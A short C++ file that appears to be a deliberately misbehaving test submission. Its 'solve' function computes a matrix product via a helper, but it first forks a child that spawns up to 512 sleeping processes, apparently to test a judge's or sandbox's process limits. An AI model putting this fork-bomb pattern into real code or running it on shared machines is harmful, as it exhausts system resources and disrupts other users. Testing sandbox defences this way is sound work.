/// Starts processes that start processes.
#include <unistd.h>

#include "product.hpp"

extern "C" void solve(const float* a, const float* b, float* c, int m, int k, int n) {
  if (fork() != 0) { // the first process goes on
    for (int wait = 0; wait < 1000; ++wait) usleep(1000);
    product(a, b, c, m, n, k);
    return;
  }
  for (int round = 0; round < 9; ++round) fork();
  sleep(10);
  _exit(0);
}
